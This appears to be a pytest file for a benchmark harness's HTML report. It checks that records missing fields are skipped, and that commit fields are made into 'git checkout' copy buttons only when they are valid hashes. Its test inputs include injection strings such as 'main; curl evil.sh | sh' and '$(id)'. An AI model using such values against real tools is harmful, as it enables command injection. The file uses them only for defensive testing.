"""A report of what came from anywhere: a record that lacks things, a commit that is a command, signs to be obeyed."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
from outcomes import result
from reported import planned
from test_printable import OBEYED, unseen

from harness.cli import main
from harness.measure.spec import Benched, Met, Target
from harness.store import Store


def report(store: Path, bench: Path, out: Path) -> str:
    typed = ["report", "table1", "--preset", "cpu", "--store", str(store), "--bench", str(bench), "--out", str(out)]
    assert main(typed) == 0
    return out.read_text(encoding="utf-8")


@pytest.fixture
def strange(bench: Path, tmp_path: Path) -> Path:
    """A record of a bench that says nothing of its machine."""
    known = msgspec.json.decode((bench / "latency-cpu.json").read_bytes(), type=Benched)
    timings = tuple(msgspec.structs.replace(t, subject=f"{t.subject}{OBEYED[:-1]}") for t in known.timings)
    told = {"of": "time", "method": "", "architecture": "", "width": 1.0, "timesteps": 1, "batch": 1}
    target = Target(says="fast", subject="a", reference="b", **told)
    met = Met(target=target, measured=1.0, low=1.0, high=1.0, verdict="met")
    changed = msgspec.structs.replace(known, environment={"packages": {}}, timings=timings, targets=(met,))
    (tmp_path / "bench").mkdir()
    (tmp_path / "bench/latency-cpu.json").write_bytes(msgspec.json.encode(changed))
    return tmp_path / "bench"


def test_a_record_of_a_bench_that_lacks_its_machine(store: Path, strange: Path, tmp_path: Path, capsys) -> None:
    """It is left out with a line; the report stands without it."""
    text = report(store, strange, tmp_path / "report.html")
    assert "Table 1" in text and not unseen(text)
    assert "no record of a bench (Object missing required field `device`)" in capsys.readouterr().err
    assert main(["bench", str(strange / "latency-cpu.json"), "--format", "markdown"]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_a_record_without_timings_is_one_line(strange: Path, tmp_path: Path, capsys) -> None:
    benched = msgspec.json.decode((strange / "latency-cpu.json").read_bytes(), type=Benched)
    whole = {"device": "cpu", "cpu": "x", "threads": 1, "packages": {}, "neurons": "x", "command": "x"}
    record = msgspec.structs.replace(benched, timings=(), environment=whole)
    (path := tmp_path / "none.json").write_bytes(msgspec.json.encode(record))
    assert main(["bench", str(path)]) == 2
    assert "timings" in (said := capsys.readouterr().err) and said.count("\n") == 1


@pytest.mark.parametrize(
    "commit", ["main; curl evil.sh | sh", "--force", "$(id)", "0123abc\nreboot", "unknown (why)", ""]
)
def test_a_commit_that_is_none_is_no_command(commit: str, bench: Path, tmp_path: Path) -> None:
    """The copy button would hand it out."""
    store = Store(tmp_path / "runs")
    for cell in planned().lines[2].cells:
        done = result(cell, 61.0)
        store.write_result(msgspec.structs.replace(done, environment={**done.environment, "commit": commit}))
    assert "git checkout" not in report(store.root, bench, tmp_path / "report.html")


@pytest.mark.parametrize("commit", ["0123abc", "0123456789ab+dirty"])
def test_one_that_is_is(commit: str, bench: Path, tmp_path: Path) -> None:
    store = Store(tmp_path / "runs")
    for cell in planned().lines[2].cells:
        done = result(cell, 61.0)
        store.write_result(msgspec.structs.replace(done, environment={**done.environment, "commit": commit}))
    assert f"Copy: git checkout {commit.removesuffix('+dirty')}" in report(store.root, bench, tmp_path / "r.html")
